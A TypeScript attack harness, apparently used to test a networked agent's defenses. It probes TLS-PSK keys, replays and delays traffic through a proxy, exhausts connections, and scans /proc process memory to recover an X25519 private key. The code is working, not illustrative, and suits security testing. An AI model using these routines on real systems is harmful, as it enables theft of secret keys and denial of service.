/**
 * The attacks of root on a node, in the network namespace of the node's agent or on its memory. A separate program with Node's modules
 * only: `Attacker.ts JSON`, where the JSON is an `Attack`. It prints one JSON document per line.
 */
import { createPrivateKey, createPublicKey } from "node:crypto"
import { closeSync, openSync, readFileSync, readSync } from "node:fs"
import { connect, createServer, type Socket } from "node:net"
import { createInterface } from "node:readline"
import { connect as connectTls, createServer as createTlsServer } from "node:tls"

/** A key to try, with the name that the attacker claims. */
export interface TriedKey {
  readonly identity: string
  /** Hexadecimal. */
  readonly key: string
}

/** An agent's address. */
export interface Where {
  readonly host: string
  readonly port: number
}

/** An attack. */
export type Attack =
  /** Tries a handshake with each key, and sends a request if it succeeds. Prints an array: whose requests were answered. */
  | { readonly _tag: "Knock"; readonly at: Where; readonly keys: ReadonlyArray<TriedKey>; readonly request: string }
  /** Completes the handshake, prints `in`, waits for a line, sends a request, and prints `closed` when the agent disconnects. */
  | { readonly _tag: "Linger"; readonly at: Where; readonly key: TriedKey; readonly request: string }
  /** Holds this number of connections open without sending anything, and replaces each that is closed. Prints `held`. */
  | { readonly _tag: "Hold"; readonly at: Where; readonly count: number }
  /** Answers as an agent would, with one key after the other. Prints `listening`, and for each caller whether it accepted the answer. */
  | { readonly _tag: "Pose"; readonly port: number; readonly keys: ReadonlyArray<string> }
  /**
   * Forwards connections to an agent, and records the bytes of callers. Prints `listening`, and `ended` after each connection. At each line
   * of input it sends the record again, and prints `replayed` when the agent disconnects.
   */
  | { readonly _tag: "Replay"; readonly port: number; readonly to: Where }
  /**
   * Forwards connections to an agent, but withholds the callers' bytes after the handshake. Prints `listening`, `kept` for each withheld
   * part, and `delivered` when it has sent them, after the agent disconnected or at a line of input.
   */
  | { readonly _tag: "Delay"; readonly port: number; readonly to: Where }
  /** Searches a process's memory for the private half of a key pair. Prints it in hexadecimal, or `null`. */
  | { readonly _tag: "Memory"; readonly pid: number; readonly publicKey: string }
  /** Searches a process's memory for these bytes. Prints whether they are there. */
  | { readonly _tag: "Find"; readonly pid: number; readonly bytes: string }

const print = (value: unknown) => process.stdout.write(`${JSON.stringify(value)}\n`)
const ignore = () => undefined

const tls = { ciphers: "ECDHE-PSK-CHACHA20-POLY1305", maxVersion: "TLSv1.2" } as const

const clientOf = (at: Where, { identity, key }: TriedKey) =>
  connectTls({
    ...tls,
    ...at,
    pskCallback: () => ({ psk: Buffer.from(key, "hex"), identity }),
    checkServerIdentity: ignore
  })

const knock = (at: Where, key: TriedKey, request: string) =>
  new Promise<boolean>((resolve) => {
    const socket = clientOf(at, key)
    // An address that does not respond admits nobody either.
    socket.setTimeout(30_000, () => socket.destroy())
    socket.on("error", () => resolve(false))
    socket.on("close", () => resolve(false))
    // The agent sends first. Its message proves that the handshake was complete on its side, too.
    let said = ""
    socket.once("data", () => socket.write(Buffer.from(request, "hex")))
    socket.on("data", (chunk: Buffer) => {
      said += chunk.toString("latin1")
      if (/"(Detached|Failed)"/.test(said)) socket.end(() => resolve(true))
    })
  })

const lines = createInterface({ input: process.stdin })
lines.once("close", () => process.exit())
const nextLine = () => new Promise<void>((resolve) => lines.once("line", () => resolve()))

const listen = (port: number, serve: (socket: Socket) => void) =>
  createServer({ allowHalfOpen: true }, (socket) => {
    socket.on("error", ignore)
    serve(socket)
  }).listen(port, () => print("listening"))

const replay = async (port: number, to: Where) => {
  const record: Array<Buffer> = []
  listen(port, (caller) => {
    const agent = connect(to).on("error", ignore)
    caller.on("data", (chunk: Buffer) => {
      record.push(chunk)
      agent.write(chunk)
    })
    caller.on("close", () => agent.destroy())
    agent.pipe(caller)
    agent.on("close", () => {
      caller.destroy()
      print("ended")
    })
  })
  for (;;) {
    await nextLine()
    // As a caller would: each part after an answer, or at once if none arrives.
    const agent = connect(to).on("error", ignore).resume()
    for (const chunk of record) {
      agent.write(chunk)
      await new Promise((resolve) => {
        agent.once("data", resolve)
        agent.once("close", resolve)
        setTimeout(resolve, 100)
      })
    }
    if (!agent.destroyed) await new Promise((resolve) => agent.once("close", resolve))
    print("replayed")
  }
}

/** The TLS record type of application data. */
const applicationData = 23

/** Removes complete TLS records from the start of the received bytes. */
const takeRecords = (bytes: Buffer): { readonly records: ReadonlyArray<Buffer>; readonly rest: Buffer } => {
  const records: Array<Buffer> = []
  let rest = bytes
  while (rest.length >= 5 && rest.length >= 5 + rest.readUInt16BE(3)) {
    const end = 5 + rest.readUInt16BE(3)
    records.push(rest.subarray(0, end))
    rest = rest.subarray(end)
  }
  return { records, rest }
}

const delay = (port: number, to: Where) => {
  listen(port, (caller) => {
    const agent = connect(to).on("error", ignore)
    const kept: Array<Buffer> = []
    let rest: Buffer = Buffer.alloc(0)
    caller.on("data", (chunk: Buffer) => {
      const taken = takeRecords(Buffer.concat([rest, chunk]))
      rest = taken.rest
      for (const record of taken.records) {
        if (record[0] !== applicationData) agent.write(record)
        else {
          kept.push(record)
          print("kept")
        }
      }
    })
    agent.on("data", (chunk: Buffer) => {
      if (!caller.destroyed) caller.write(chunk)
    })
    agent.once("close", () => {
      // Again from the same address: the session has ended with the connection.
      const again = connect(to).on("error", ignore).resume()
      again.on("close", () => print("delivered"))
      again.write(Buffer.concat(kept))
    })
  })
}

/** The writable regions of a process without a file behind them. */
const regionsOf = (pid: number) =>
  readFileSync(`/proc/${pid}/maps`, "utf8")
    .split("\n")
    .flatMap((line) => {
      const [, from = "", to = ""] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? []
      return from === "" ? [] : [[Number.parseInt(from, 16), Number.parseInt(to, 16)] as const]
    })

const scan = (pid: number, look: (bytes: Buffer) => boolean): boolean => {
  const memory = openSync(`/proc/${pid}/mem`, "r")
  try {
    return regionsOf(pid).some(([from, to]) => {
      const bytes = Buffer.alloc(to - from)
      try {
        return look(bytes.subarray(0, readSync(memory, bytes, 0, bytes.length, from)))
      } catch {
        // Some regions are unreadable for everyone.
        return false
      }
    })
  } finally {
    closeSync(memory)
  }
}

/** PKCS #8 of an X25519 key, before its 32 bytes (RFC 8410). */
const header = Buffer.from("302e020100300506032b656e04220420", "hex")

const publicHalf = (bytes: Buffer) =>
  createPublicKey(createPrivateKey({ key: Buffer.concat([header, bytes]), format: "der", type: "pkcs8" })).export({
    format: "jwk"
  }).x

const privateHalf = (pid: number, publicKey: string): string | null => {
  let found: string | null = null
  scan(pid, (bytes) => {
    // OpenSSL's allocations are aligned, and the key is clamped (RFC 7748).
    for (let at = 0; at + 32 <= bytes.length; at += 16) {
      const [first = 0, last = 0] = [bytes[at], bytes[at + 31]]
      if ((first & 7) !== 0 || (last & 0xc0) !== 0x40) continue
      const candidate = bytes.subarray(at, at + 32)
      if (new Set(candidate).size < 20 || publicHalf(Buffer.from(candidate)) !== publicKey) continue
      found = candidate.toString("hex")
      return true
    }
    return false
  })
  return found
}

const attack = async (what: Attack) => {
  switch (what._tag) {
    case "Knock": {
      const isIn: Array<boolean> = []
      for (const key of what.keys) isIn.push(await knock(what.at, key, what.request))
      print(isIn)
      return process.exit()
    }
    case "Linger": {
      const socket = clientOf(what.at, what.key)
      socket.on("error", ignore)
      socket.once("data", () => print("in"))
      socket.on("close", () => {
        print("closed")
        process.exit()
      })
      await nextLine()
      socket.write(Buffer.from(what.request, "hex"))
      return
    }
    case "Hold": {
      let open = 0
      let wanted = what.count
      const hold = () => {
        wanted--
        const socket = connect(what.at).on("error", ignore)
        socket.once("connect", () => {
          open++
          if (open === what.count) print("held")
        })
        socket.once("close", () => wanted++)
      }
      while (wanted > 0) hold()
      // Slower than possible, because both ends would need the whole machine for that.
      setInterval(() => {
        if (wanted > 0) hold()
      }, 10)
      return
    }
    case "Pose": {
      let at = 0
      createTlsServer({
        ...tls,
        pskCallback: () => Buffer.from(what.keys[at++ % what.keys.length] ?? "", "hex")
      })
        .on("secureConnection", (socket) => {
          socket.on("error", ignore)
          print("believed")
        })
        .on("tlsClientError", (_error, socket) => {
          socket.destroy()
          print("not believed")
        })
        .listen(what.port, () => print("listening"))
      return
    }
    case "Replay":
      return replay(what.port, what.to)
    case "Delay":
      return delay(what.port, what.to)
    case "Memory": {
      print(privateHalf(what.pid, what.publicKey))
      return process.exit()
    }
    case "Find": {
      const bytes = Buffer.from(what.bytes, "hex")
      print(scan(what.pid, (region) => region.includes(bytes)))
      return process.exit()
    }
  }
}

await attack(JSON.parse(process.argv[2] ?? "{}"))
